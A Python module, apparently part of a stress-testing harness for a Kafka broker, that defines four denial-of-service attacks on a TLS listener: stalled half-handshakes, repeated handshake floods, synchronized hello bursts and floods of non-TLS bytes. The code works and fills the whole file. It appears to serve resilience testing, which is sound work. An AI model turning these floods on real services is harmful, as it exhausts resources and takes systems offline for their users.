"""Attacks on a TLS listener: handshakes that stall, and floods of them."""

import asyncio
import ssl
from functools import cache

from .crowd import AttackConnection, crowd, forever
from .kafka_attacks import Attack
from .target import Target

STALLED = 3_000
FLOODERS = 200
AT_ONCE = 1_000


@cache
def _hello() -> bytes:
    """A client hello. The same one serves every attacker: no attacker completes its handshake."""
    context = ssl.create_default_context()
    outgoing = ssl.MemoryBIO()
    tls = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()
    raise AssertionError("a handshake with no other side")


async def tls_half_hellos(target: Target) -> None:
    """3,000 clients that send half a hello and wait."""

    async def act(connection: AttackConnection) -> None:
        await connection.send(_hello()[:100])
        await forever(connection)

    await crowd(target.tls, STALLED, act)


async def tls_flood_of_handshakes(target: Target) -> None:
    """200 clients that begin a handshake, read the broker's part of it and begin another."""

    async def act(connection: AttackConnection) -> None:
        while True:
            await connection.send(_hello())
            await connection.receive()
            await connection.connect_anew()

    await crowd(target.tls, FLOODERS, act)


async def tls_hellos_at_once(target: Target) -> None:
    """1,000 clients that send all their hellos at the same moment, again and again."""
    loop = asyncio.get_running_loop()

    async def act(connection: AttackConnection) -> None:
        await asyncio.sleep(1.0 - loop.time() % 1.0)
        await connection.send(_hello())
        await forever(connection)

    await crowd(target.tls, AT_ONCE, act)


async def tls_plain_bytes(target: Target) -> None:
    """200 clients that send anything but TLS, again and again."""

    async def act(connection: AttackConnection) -> None:
        await connection.send(b"\x00\x00\x00\x10" + bytes(16))
        await forever(connection)

    await crowd(target.tls, FLOODERS, act)


TLS_ATTACKS: dict[str, Attack] = {
    each.__name__.replace("_", "-"): each
    for each in (tls_half_hellos, tls_flood_of_handshakes, tls_hellos_at_once, tls_plain_bytes)
}
